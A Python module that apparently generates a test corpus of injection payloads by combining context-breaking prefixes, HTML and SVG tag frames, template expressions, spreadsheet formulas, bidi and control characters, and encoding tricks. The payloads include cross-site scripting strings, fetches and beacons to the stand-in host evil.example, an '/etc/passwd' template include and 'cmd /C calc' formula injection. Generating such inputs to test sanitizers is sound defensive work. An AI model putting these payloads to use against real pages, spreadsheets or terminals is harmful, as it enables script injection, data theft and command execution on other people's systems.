"""Texts that would act if a page took them for more than text: markup, handlers, addresses, style, templates, formulas, marks.

They are built from parts, so that ten thousand differ in the way they break out, in what they carry, and in how it is written.
Each would set `window.owned`, ask `evil.example` for something, or change the page's title.
"""

from collections.abc import Callable, Iterator
from itertools import product
from random import Random
from urllib.parse import quote

ACTS = (
    "window.owned=1",
    "document.title='owned'",
    "fetch('//evil.example/f')",
    "new Image().src='//evil.example/i'",
    "location='//evil.example/l'",
    "alert(1)",
    "import('//evil.example/m.js')",
    "eval('window.owned=2')",
    "top.owned=3",
    "navigator.sendBeacon('//evil.example/b')",
)
BREAKS = (
    *(
        "",
        '"',
        "'",
        ">",
        '">',
        "'>",
        '"/>',
        "`",
        "-->",
        "--!>",
        "]]>",
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
    ),
    *(
        "</option></select>",
        "</noscript>",
        "</template>",
        "</svg>",
        "</math>",
        "</td></tr></table>",
        "</button></form>",
    ),
    *("\\", '\\"', "%22%3E", "&quot;&gt;", "\x00", "\r\n\r\n", "{%", "*/", "</p></details>", "<!--", "<![CDATA["),
)
TAGS = (
    "<script>{a}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>{a}</script>",
    "<img src=x onerror={q}{a}{q}>",
    "<svg onload={q}{a}{q}>",
    "<svg><script>{a}</script></svg>",
    "<svg><animate onbegin={q}{a}{q} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#y>",
    "<math><a xlink:href=javascript:{a}>x</a></math>",
    "<iframe srcdoc={q}<script>{a}</script>{q}></iframe>",
    "<iframe src=javascript:{a}></iframe>",
    "<object data=//evil.example/o></object>",
    "<embed src=//evil.example/e>",
    "<body onload={q}{a}{q}>",
    "<input autofocus onfocus={q}{a}{q}>",
    "<details open ontoggle={q}{a}{q}>x</details>",
    "<video autoplay onloadstart={q}{a}{q}><source src=//evil.example/v></video>",
    "<audio src onerror={q}{a}{q}></audio>",
    "<marquee onstart={q}{a}{q}>x</marquee>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<link rel=prefetch href=//evil.example/p>",
    "<meta http-equiv=refresh content='0;url=//evil.example/r'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/s';*{{background:url(//evil.example/c)}}</style>",
    "<p style=background:url(//evil.example/u)>x</p>",
    "<form action=//evil.example/a><button autofocus>x</button></form>",
    "<a href=javascript:{a}>x</a>",
    "<a href='//evil.example/' ping='//evil.example/g'>x</a>",
    "<div hx-get=//evil.example/h hx-trigger=load>x</div>",
    "<div hx-on:htmx:load={q}{a}{q}>x</div>",
    "<template><script>{a}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={a}>'>",
    "<select><style></select><img src=x onerror={a}></style>",
    "<table background=//evil.example/t>",
    "<img srcset='//evil.example/1 1x'>",
    "<picture><source srcset=//evil.example/2><img></picture>",
    "<dialog open><form method=dialog><button autofocus onfocus={a}></form></dialog>",
    "<x contenteditable autofocus tabindex=1 onfocus={q}{a}{q}>",
    "<isindex action=javascript:{a}>",
    "<portal src=//evil.example/q></portal>",
)
BARE = (
    "javascript:{a}",
    "data:text/html,<script>{a}</script>",
    "vbscript:{a}",
    "//evil.example/x",
    "https://evil.example/?q=1",
    "{{{{constructor.constructor('{a}')()}}}}",
    "${{{a}}}",
    "<%= {a} %>",
    "#{{{a}}}",
    "{{{{7*7}}}}",
    "{{% include '/etc/passwd' %}}",
    "onfocus={a} autofocus x=",
    "style=x:expression({a})",
    "url(//evil.example/k)",
    "[x](javascript:{a})",
    "![x](//evil.example/w)",
    '=HYPERLINK("//evil.example/z")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd|x",
    "\tcmd",
    "=1+1",
    "\u202e{a}\u202c",
    "\u2066{a}\u2069",
    "\u200b{a}\ufeff",
    "\ue000{a}",
    "\x1b]8;;//evil.example\x07x",
    "\x7f\x9f{a}",
)


def _upper(text: str) -> str:
    return text.replace("script", "ScRiPt").replace("onerror", "OnErRoR").replace("onload", "oNlOaD")


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;")


def _wide(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e")


WRITTEN: tuple[Callable[[str], str], ...] = (
    str,
    _upper,
    _entities,
    _wide,
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t\n"),
    lambda text: text.replace("<", "&#x3c;"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("javascript:", "java\nscript:").replace("=", " = "),
    lambda text: text + text[::-1],
)


def payloads(count: int, seed: int = 0) -> list[str]:
    """So many different ones; the same seed gives the same. Raises ValueError where there are not so many."""
    made = list(dict.fromkeys(_all()))
    if count > len(made):
        raise ValueError(f"only {len(made)} payloads can be built")
    Random(seed).shuffle(made)
    return made[:count]


def _all() -> Iterator[str]:
    for number, (frame, broken) in enumerate(product((*TAGS, *BARE), BREAKS)):
        for place, written in enumerate(WRITTEN):
            act = ACTS[(number + place) % len(ACTS)]
            yield broken + written(frame.format(a=act, q=("", '"', "'", "`")[(number + place) % 4]))
